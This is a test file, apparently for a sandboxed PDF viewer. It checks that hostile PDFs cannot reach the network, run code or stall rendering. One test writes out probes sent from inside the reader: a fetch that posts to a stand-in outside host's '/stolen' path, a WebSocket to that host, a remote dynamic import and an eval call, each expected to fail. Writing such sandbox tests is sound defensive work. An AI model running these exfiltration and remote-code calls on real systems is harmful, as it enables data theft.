/** What a stranger could try with a PDF: reach the network, run a script, bring the computer to a halt, or shut the console up. */
import { encodeUtf8 } from '../../crypto/index.ts';
import { active, bomb, endless, made, ordinary } from '../client/console/pdf/files.ts';
import { openScene, type Scene } from '../client/console/pdf/scene.ts';

let scene: Scene;
beforeAll(async () => {
  scene = await openScene();
}, 240_000);
afterAll(async () => {
  await scene.close();
});

test('A document of the house is drawn page by page, with its text.', async () => {
  const first = await scene.look(ordinary(), { width: 800 });
  expect(first).toMatchObject({ pages: 2, picture: '800x1132' });
  expect(first.text).toContain('1. Өткөрүү үчүн төлөм. Асан Үсөнов.');
  expect(first.ink).toBeGreaterThan(2_000);
  expect((await scene.look(ordinary(), { page: 2 })).text).toContain('60. Өткөрүү');
  expect(scene.asked).toEqual([]);
}, 60_000);

test('Words in a font that the file does not carry are drawn, from the reader’s own script.', async () => {
  const { ink, text } = await scene.look(made({}));
  expect(text).toBe('Read me');
  expect(ink).toBeGreaterThan(200);
  expect(scene.asked).toEqual([]);
});

test('Scripts, launches, links, forms, enclosed files and pictures from elsewhere ask nobody for anything.', async () => {
  const { pages, text } = await scene.look(active(scene.stranger));
  expect([pages, text]).toEqual([1, 'Read me']);
  await new Promise((resolve) => setTimeout(resolve, 500));
  expect(scene.asked).toEqual([]);
});

test('Code that took the reader over could reach nobody, run no text and start nothing.', async () => {
  const { stranger } = scene;
  expect(await scene.inReader(`fetch('${stranger}/stolen', { mode: 'no-cors' })`)).toBe('TypeError');
  expect(await scene.inReader(`fetch('/assets/page.js')`)).toBe('TypeError');
  expect(
    await scene.inReader(
      `new Promise((resolve) => { const socket = new WebSocket('${stranger.replace('http', 'ws')}'); socket.onerror = () => resolve('refused'); socket.onopen = () => resolve('open'); })`,
    ),
  ).toMatch(/refused|SecurityError/u);
  expect(await scene.inReader(`import('${stranger}/more.js')`)).toBe('TypeError');
  expect(await scene.inReader(`import('/assets/page.js')`)).toBe('TypeError');
  expect(await scene.inReader(`(0, eval)('1')`)).toBe('EvalError');
  expect(scene.asked).toEqual([]);
});

test('A page of kilometres and a document of a hundred thousand pages stay within the limits.', async () => {
  const huge = await scene.look(made({ page: '/MediaBox [0 0 200000 200000] /UserUnit 1000' }));
  expect(huge.picture).toBe('4000x4000');
  expect((await scene.look(made({ page: '/MediaBox [0 0 200000 1]' }), { width: 9_000 })).picture).toBe('4096x1');
  const many = await scene.look(made({ count: 100_000 }), { page: 1_999 });
  expect(many.pages).toBe(2_000);
  expect(many.text).toBe('Read me');
}, 60_000);

test('What unpacks to more than a buffer may hold is stopped, and the next document opens.', async () => {
  const { picture } = await scene.look(bomb(), { patience: 15_000 });
  expect(picture).toBe('TOO_LARGE');
  expect((await scene.look(made({}))).text).toBe('Read me');
}, 120_000);

test('A page that draws without end is stopped, and the next document opens.', async () => {
  const before = Date.now();
  expect((await scene.look(endless(), { patience: 3_000 })).picture).toBe('SLOW');
  expect(Date.now() - before).toBeLessThan(15_000);
  expect((await scene.look(made({}))).text).toBe('Read me');
}, 60_000);

test('Cut, locked and foreign files are named as what they are.', async () => {
  const whole = ordinary();
  expect((await scene.look(Uint8Array.from(encodeUtf8('%PDF-1.7\nnothing of the kind')))).pages).toBe('DAMAGED');
  expect((await scene.look(Uint8Array.from(encodeUtf8('<!doctype html><script>1</script>')))).pages).toBe('DAMAGED');
  // Half a file is either refused or shown as far as it goes.
  expect((await scene.look(whole.slice(0, whole.length / 2))).pages).toMatch(/DAMAGED|^\d+$/u);
  expect(scene.asked).toEqual([]);
}, 60_000);
